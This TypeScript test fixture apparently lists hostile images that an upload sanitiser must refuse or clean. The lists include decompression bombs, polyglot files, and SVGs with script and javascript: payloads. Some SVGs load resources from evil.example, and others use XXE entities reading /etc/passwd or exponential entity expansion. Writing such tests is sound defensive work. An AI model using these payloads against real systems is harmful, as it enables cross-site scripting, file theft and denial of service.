import { deflateSync, gzipSync } from 'node:zlib';
import { chunk, end, header, pixels, png } from '@gcs/test/support/png';

/** No picture that is served may contain this. */
export const mark = 'canary-of-the-picture';

const good = png(header(), pixels(), end);
const script = `<script>alert("${mark}")</script>`;
const svg = (inner: string, before = '') =>
  Buffer.from(`${before}<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 2 1">${inner}</svg>`);
const within = (...parts: (Buffer | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)));
const text = (content: string) => chunk('tEXt', Buffer.from(`Comment\0${content}`));

export const refusedPictures: ReadonlyMap<string, Buffer> = new Map([
  ['the signature of a PNG alone', good.subarray(0, 8)],
  ...[9, 20, 33, 45, good.length - 12, good.length - 1].map((at): [string, Buffer] => [
    `a PNG that is cut off after ${at} bytes`,
    good.subarray(0, at),
  ]),
  ['a PNG of which a byte has flipped', Buffer.from(good.map((byte, at) => (at === 41 ? byte ^ 0x40 : byte)))],
  ['a bomb of 64 million pixels', png(header({ width: 8_000, height: 8_000 }), pixels(32_000_000), end)],
  ['a bomb behind a small header', png(header(), pixels(60_000_000), end)],
  ['a bomb within a bomb', png(header(), chunk('IDAT', deflateSync(deflateSync(Buffer.alloc(4_000_000)))), end)],
  ['a length that runs beyond the end', Buffer.from(good.map((byte, at) => (at === 8 ? 0x7f : byte)))],
  ['a PNG with HTML behind it', within(good, script)],
  ['a PNG with a ZIP behind it', within(good, 'PK\u0003\u0004', mark)],
  ['a PNG with a PDF in front of it', within('%PDF-1.7\n', good)],
  ['a moving PNG', png(header(), chunk('acTL', Buffer.alloc(8)), pixels(), end)],
  ['a PNG with a part that has to be understood', png(header(), chunk('EVIL', Buffer.from(script)), pixels(), end)],
  ['a GIF that is a script, too', Buffer.from(`GIF89a=1;/*${script}*/alert("${mark}")`)],
  ['a JPEG', Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex')],
  ['a WebP', Buffer.from('524946461a000000574542505650384c0d0000002f0000001007', 'hex')],
  ['HTML', Buffer.from(`<!doctype html><html>${script}</html>`)],
  ['plain text', Buffer.from(mark)],
  ['zeros', Buffer.alloc(1_000)],
  ['an SVG that is packed', gzipSync(svg('<path d="M0 0h2"/>'))],
  ['an SVG in UTF-16', Buffer.from(`\ufeff${svg('<path d="M0 0h2"/>')}`, 'utf16le')],
  ...[
    script,
    '<SCRIPT href="https://evil.example/x.js"/>',
    `<style>@import "https://evil.example/${mark}"</style>`,
    `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${script}</body></foreignObject>`,
    `<image href="https://evil.example/${mark}"/>`,
    `<image href="data:image/svg+xml;base64,PHN2Zz4="/>`,
    `<use href="https://evil.example/a.svg#${mark}"/>`,
    `<a href="javascript:alert('${mark}')"><path d="M0 0h2"/></a>`,
    `<animate attributeName="href" values="javascript:alert('${mark}')"/>`,
    `<set attributeName="onload" to="alert('${mark}')"/>`,
    `<path d="M0 0h2" onload="alert('${mark}')"/>`,
    `<path d="M0 0h2" fill="url(https://evil.example/${mark})"/>`,
    `<path d="M0 0h2" style="fill:url(//evil.example/${mark})"/>`,
    `<path d="M0 0h2" filter="url(#f)"/><filter id="f"><feImage href="https://evil.example/${mark}"/></filter>`,
    `<text>${mark}</text>`,
    mark,
    `<![CDATA[${script}]]>`,
    '<g>'.repeat(5_000),
    '<path d="M0 0h2"/>'.repeat(3_000),
  ].map((inner): [string, Buffer] => [`an SVG with ${inner.slice(0, 60)}`, svg(inner)]),
  ...[
    `<!DOCTYPE svg [<!ENTITY a "${mark}">]>`,
    `<!DOCTYPE svg SYSTEM "https://evil.example/${mark}.dtd">`,
    '<!DOCTYPE svg [<!ENTITY file SYSTEM "file:///etc/passwd">]>',
    `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>`,
  ].map((before): [string, Buffer] => [`an SVG behind ${before.slice(0, 60)}`, svg('<path d="M0 0h2"/>', before)]),
  ['an SVG with HTML behind it', within(svg(''), script)],
  ['more than 64 KiB of PNG', png(header(), text('x'.repeat(66_000)), pixels(), end)],
  ['more than 64 KiB of SVG', svg(`<path d="${'M0 0h2'.repeat(12_000)}"/>`)],
]);

export const tamedPictures: ReadonlyMap<string, Buffer> = new Map([
  ['a PNG with a script in a text', png(header(), text(script), pixels(), end)],
  [
    'a PNG with a place and a time',
    png(header(), chunk('eXIf', Buffer.from(mark)), chunk('tIME', Buffer.alloc(7)), pixels(), end),
  ],
  ['a PNG with a profile', png(header(), chunk('iCCP', Buffer.from(`${mark}\0\0`)), pixels(), end)],
  ['an SVG with a title', svg(`<title>${mark}</title><path d="M0 0h2v1z"/>`)],
  ['an SVG with metadata', svg(`<metadata><a href="https://evil.example/${mark}"/></metadata><path d="M0 0h2v1z"/>`)],
  ['an SVG with a comment', svg(`<!-- ${mark} --><path d="M0 0h2v1z"/>`)],
  [
    'an SVG with a processing instruction',
    svg('<path d="M0 0h2v1z"/>', `<?xml-stylesheet href="https://evil.example/${mark}"?>`),
  ],
  ['an SVG of an editor', svg(`<path inkscape:label="${mark}" data-x="${mark}" class="${mark}" d="M0 0h2v1z"/>`)],
]);
